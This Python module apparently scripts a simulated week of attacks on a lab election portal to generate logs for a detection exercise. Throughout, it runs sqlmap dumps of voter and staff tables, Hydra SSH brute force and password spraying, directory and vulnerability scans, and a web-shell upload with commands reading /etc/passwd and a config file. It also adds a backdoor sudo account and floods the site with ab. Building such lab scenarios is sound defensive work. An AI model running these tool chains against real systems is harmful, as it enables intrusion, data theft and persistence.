"""The attacks: real tools, each from a namespace or an address of its own, each against the lab's servers alone.

`ATTACKS` says who did what; what of it is in which log line, truth.py reads from the recorded logs.
"""

from __future__ import annotations

import subprocess
import time
from collections.abc import Sequence
from pathlib import Path

import network
from campaign import FLOODERS
from conductor import Conductor, Pacer, moment
from hosts import FILES, GATE, RESULTS_URL, VOTERS_URL, WEB, Servers, words_of
from office import PASSWORDS, Session, attempt, ssh_command

OLD_FIREFOX = "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:45.0) Gecko/20100101 Firefox/45.0"
CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36"
)
DIRB = "/usr/share/dirb/wordlists/"
PROBES = words_of("probes")
USUAL_NAMES = ("root", "admin", "ubuntu", "postgres", "test", "oracle", "m.okafor")
STEMS = ("password", "welcome", "alderland", "election", "qwerty", "letmein", "admin", "zomer", "winter", "lente")
GUESSES = tuple(f"{stem.title()}{tail}" for stem in STEMS for tail in ("1", "2025", "2026", "!"))
STAFF_NAMES = tuple(
    f"{letter}.{name}"
    for name in ("bakker", "visser", "smit", "jansen", "mulder", "bos", "vos", "peters", "dekker", "kok")
    for letter in "abdjmw"
)


class Attackers:
    """Enters the attacks into the programme."""

    def __init__(self, conductor: Conductor, servers: Servers) -> None:
        """Who moves the clock, and where the servers are."""
        self.conductor, self.servers, self.chance = conductor, servers, conductor.chance
        self.files = servers.work / "lists"
        self.files.mkdir()
        self.running: list[subprocess.Popen[bytes]] = []

    def tool(self, address: str, *words: str, seconds: int = 240) -> None:
        """Run a tool in the attacker's own namespace, for so long at most."""
        space = network.PREFIX + "a" + address.replace(".", "")[-9:]
        if not Path(f"/run/netns/{space}").exists():
            network.attach(space.removeprefix(network.PREFIX), [address])
        self.run(*network.within(space, *words), seconds=seconds)

    def run(self, *words: str, seconds: int) -> None:
        """Run a tool here; what it says goes to tools.log in the work folder."""
        with (self.servers.work / "tools.log").open("ab") as log:
            log.write(f"\n== {self.conductor.now():.0f} {' '.join(words)}\n".encode())
            log.flush()
            subprocess.run(
                ["timeout", str(seconds), *words], stdin=subprocess.DEVNULL, stdout=log, stderr=log, check=False
            )

    def words(self, name: str, lines: Sequence[str]) -> str:
        """A word list as a file."""
        path = self.files / name
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        return str(path)

    def enter_all(self) -> None:
        """The whole week."""
        job = self.conductor.job_at
        self.enter_loud_and_quiet()
        self.enter_injection()
        job(moment("10-29 03:12:41"), self.scan_directories)
        job(moment("10-29 23:40:09"), self.guess_ssh)
        job(moment("10-31 14:05:33"), lambda: self.spray(GATE, "Welkom2026"))
        job(moment("10-31 18:47:18"), lambda: self.spray(FILES, "Alderland1!"))
        self.enter_slow_scan()
        job(moment("11-01 22:15:27"), self.guess_admin)
        job(moment("11-02 11:20:50"), self.scan_vulnerabilities)
        self.enter_slow_guesses()
        self.enter_web_shell()
        close = moment("11-03 21:00")
        for place, address in enumerate(FLOODERS):
            job(close + 120 + 4 * place, lambda address=address: self.flood(address))  # type: ignore[misc] # binds the loop's value

    def sqlmap(self, address: str, *words: str, seconds: int = 150) -> None:
        """Run sqlmap as its user would; nothing is remembered between the runs unless the actor is the same."""
        self.tool(
            address,
            "sqlmap",
            "--batch",
            "--disable-coloring",
            "--output-dir",
            str(self.servers.work / f"sqlmap-{address}"),
            *words,
            seconds=seconds,
        )

    def scan_directories(self) -> None:
        """gobuster, a common list."""
        self.tool(
            "198.51.100.17",
            "gobuster",
            "dir",
            "-q",
            "-t",
            "4",
            "--delay",
            "20ms",
            "-u",
            VOTERS_URL,
            "-w",
            DIRB + "common.txt",
            seconds=120,
        )

    def enter_injection(self) -> None:
        """Sqlmap at full speed: find, list the tables, take the voters, take the staff."""
        target = ("-u", f"{VOTERS_URL}/status?id=4100012&year=1980")
        stages = (
            ("10-30 21:40:19", ()), ("10-30 21:44:52", ("--tables", "--technique", "U")),
            ("10-30 21:51:03", ("--dump", "-T", "voters", "--start", "1", "--stop", "400", "--technique", "U")),
            ("10-30 22:08:47", ("--dump", "-T", "staff", "-C", "login,role", "--technique", "B", "--flush-session")),
        )  # fmt: skip
        for when, words in stages:
            self.conductor.job_at(moment(when), lambda words=words: self.sqlmap("198.51.100.42", *target, *words))  # type: ignore[misc] # binds the loop's value

    def enter_loud_and_quiet(self) -> None:
        """First every field from one address, then one field from another."""
        loud = ("--user-agent", OLD_FIREFOX, "--technique", "BEU", "--level", "2", "--flush-session")
        targets = (
            ("-u", f"{VOTERS_URL}/search?q=ballot"), ("-u", f"{VOTERS_URL}/status?id=4100031&year=1971"),
            ("-u", f"{VOTERS_URL}/register", "--data", "name=Jan&street=Mill&postcode=1001AA&born=1980-02-01&email=a"),
            ("-u", f"{VOTERS_URL}/admin/login", "--data", "login=jan&password=jan"),
            ("-u", f"{VOTERS_URL}/polling-place?postcode=1001+AA"),
        )  # fmt: skip
        for place, target in enumerate(targets):
            self.conductor.job_at(
                moment("10-28 02:10:36") + 150 * place,
                lambda target=target: self.sqlmap("198.51.100.77", *target, *loud, seconds=90),
            )  # type: ignore[misc]
        pacer = Pacer(self.conductor, "203.0.113.201", moment("10-28 09:50"), (2100, 5400), 140)
        quiet = (
            "sqlmap",
            "--batch",
            "--disable-coloring",
            "--output-dir",
            str(self.servers.work / "sqlmap-quiet"),
            "-u",
            f"http://{WEB}/polling-place?postcode=1001+AA",
            "-p",
            "postcode",
        )
        quiet += (
            "--user-agent",
            OLD_FIREFOX,
            "--proxy",
            pacer.address,
            "--timeout",
            "1500",
            "--retries",
            "0",
            "--technique",
            "B",
            "--prefix",
            "'",
            "--suffix",
            "-- -",
            "--dbms",
            "sqlite",
            "--dump",
            "-T",
            "staff",
            "-C",
            "login,role",
        )
        self.background(moment("10-28 09:45"), quiet)

    def background(self, when: float, words: Sequence[str]) -> None:
        """Start a paced tool at its time; it runs beside everything else, for at most an hour."""

        def start() -> None:
            log = (self.servers.work / f"tool-{len(self.running)}.log").open("wb")
            self.running.append(
                subprocess.Popen(["timeout", "3600", *words], stdin=subprocess.DEVNULL, stdout=log, stderr=log)
            )

        self.conductor.at(when, start)

    def enter_slow_scan(self) -> None:
        """Ffuf behind a pacer over the night from Saturday to Sunday."""
        usual = [line for line in Path(DIRB + "small.txt").read_text(encoding="latin-1").split() if line.isascii()][
            100:700:3
        ]
        pacer = Pacer(self.conductor, "198.51.100.188", moment("10-31 21:30"), (60, 200), 200)
        words = (
            "ffuf",
            "-s",
            "-t",
            "1",
            "-timeout",
            "1500",
            "-u",
            f"http://{WEB}/FUZZ",
            "-w",
            self.words("slow.txt", usual),
            "-x",
            pacer.address,
            "-H",
            f"User-Agent: {CHROME}",
        )
        self.background(moment("10-31 21:25"), words)

    def guess_ssh(self) -> None:
        """Hydra at full speed."""
        self.tool(
            "198.51.100.90",
            "hydra",
            "-I",
            "-q",
            "-t",
            "8",
            "-L",
            self.words("names", USUAL_NAMES),
            "-P",
            self.words("guesses", GUESSES),
            f"ssh://{GATE}",
            seconds=150,
        )

    def spray(self, host: str, password: str) -> None:
        """One password, many names."""
        self.tool(
            "198.51.100.130",
            "hydra",
            "-I",
            "-q",
            "-t",
            "4",
            "-L",
            self.words("staff", STAFF_NAMES),
            "-p",
            password,
            f"ssh://{host}",
            seconds=90,
        )

    def guess_admin(self) -> None:
        """Hydra at the portal's form."""
        form = "/admin/login:login=^USER^&password=^PASS^:Wrong name"
        many = [guess + tail for guess in GUESSES for tail in ("", "1", "#", "?", "01")]
        names = self.words("portal-names", ("admin", "m.okafor", "k.jansen"))
        self.tool(
            "198.51.100.105",
            "hydra",
            "-I",
            "-q",
            "-t",
            "4",
            "-L",
            names,
            "-P",
            self.words("many", many),
            "voters.alderland.example",
            "http-post-form",
            form,
            seconds=120,
        )

    def scan_vulnerabilities(self) -> None:
        """Wapiti, then strings by ffuf."""
        report = str(self.servers.work / "wapiti.json")
        self.tool(
            "198.51.100.151",
            "wapiti",
            "-u",
            VOTERS_URL + "/",
            "-m",
            "xss,exec,file",
            "--flush-session",
            "--max-scan-time",
            "2",
            "-f",
            "json",
            "-o",
            report,
            "--no-bugreport",
            seconds=200,
        )
        for path in ("/search?q=FUZZ", "/faq?page=FUZZ", "/candidates?list=FUZZ"):
            self.tool(
                "198.51.100.151",
                "ffuf",
                "-s",
                "-t",
                "2",
                "-p",
                "0.3",
                "-u",
                VOTERS_URL + path,
                "-w",
                self.words("probes", [encoded(p) for p in PROBES]),
                seconds=60,
            )

    def enter_slow_guesses(self) -> None:
        """A guess every few hours; the right one on Monday before dawn; then the session."""
        source, user = "203.0.113.214", "h.meijer"
        when, end = moment("10-28 11:03"), moment("11-02 02:10")
        for guess in (*GUESSES[:24], *(f"Meijer{year}" for year in range(1985, 1997))):
            if when < end:
                self.conductor.job_at(
                    when, lambda word=guess: attempt([*ssh_command(source, user, GATE, password=word), "true"])
                )  # type: ignore[misc]
            when += self.chance.uniform(1.5, 4.5) * 3600
        sudo = f"echo '{PASSWORDS[user]}' | sudo -S -p '' "
        lines = [
            (40.0, "id; uname -a"),
            (95.0, sudo + "-l"),
            (60.0, sudo + "/usr/bin/cat /etc/hostname"),
            (130.0, sudo + "/usr/bin/tar czf /tmp/.lab-session.tgz /etc/hostname"),
            (210.0, sudo + "/usr/sbin/useradd --badname -m -s /bin/bash sys.backup2"),
            (70.0, sudo + "/usr/sbin/usermod -aG sudo sys.backup2"),
            (400.0, sudo + "/usr/bin/rm /tmp/.lab-session.tgz"),
        ]
        Session(self.conductor, ssh_command(source, user, GATE, password=PASSWORDS[user], tty=True)).enter(
            moment("11-02 02:51:14"), lines
        )

    def enter_web_shell(self) -> None:
        """By hand, with curl: look, upload, use."""
        address, shell = (
            "192.0.2.222",
            self.words("img_0411.php", ["GIF89a", "<?php /* lab: harmless, never executed */ ?>"]),
        )
        at, close = self.conductor.job_at, moment("11-03 21:00")
        for pause, path in ((-1900, "/"), (-1850, "/candidates"), (-1200, "/uploads/"), (-1100, "/admin/")):
            at(close + pause, lambda path=path: self.curl(address, VOTERS_URL + path))  # type: ignore[misc]
        at(
            close + 372,
            lambda: self.curl(
                address, VOTERS_URL + "/candidates/photo", "-F", f"photo=@{shell};filename=img_0411.php;type=image/jpeg"
            ),
        )
        commands = (
            "id",
            "whoami",
            "uname -a",
            "pwd",
            "ls -la /srv/portal",
            "cat /srv/portal/portal.conf",
            "cat /etc/passwd",
            "netstat -tnlp",
        )
        when = close + 395
        for command in commands:
            url = f"{VOTERS_URL}/uploads/img_0411.php?cmd={encoded(command)}"
            at(when, lambda url=url: self.curl(address, url))  # type: ignore[misc]
            when += self.chance.uniform(15, 160)
        for command in ("ls -la /srv/portal", "cat /srv/portal/portal.conf", "id"):
            form = f"cmd={encoded(command)}"
            at(when, lambda form=form: self.curl(address, f"{VOTERS_URL}/uploads/img_0411.php", "-d", form))  # type: ignore[misc]
            when += self.chance.uniform(60, 900)

    def curl(self, address: str, url: str, *words: str) -> None:
        """One request by hand."""
        self.tool(address, "curl", "-s", "-o", "/dev/null", "-A", CHROME, *words, url, seconds=20)

    def flood(self, address: str) -> None:
        """Bursts of ab for four minutes and no longer."""
        agent = self.chance.choice(
            (CHROME, OLD_FIREFOX, "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)", "Go-http-client/1.1")
        )
        end = time.monotonic() + 240
        while time.monotonic() < end:
            self.tool(
                address,
                "ab",
                "-q",
                "-n",
                str(self.chance.randint(60, 120)),
                "-c",
                "4",
                "-H",
                f"User-Agent: {agent}",
                f"{RESULTS_URL}/api/results.json",
                seconds=30,
            )
            time.sleep(self.chance.uniform(14, 30))

    def stop(self) -> None:
        """End what is still running."""
        for process in self.running:
            process.terminate()


def encoded(text: str) -> str:
    """As ffuf and curl need it: what would break a request line is percent-encoded, the rest stays."""
    return "".join(f"%{ord(c):02x}" if c in ' "<>#`{}|&' or ord(c) < 33 else c for c in text)
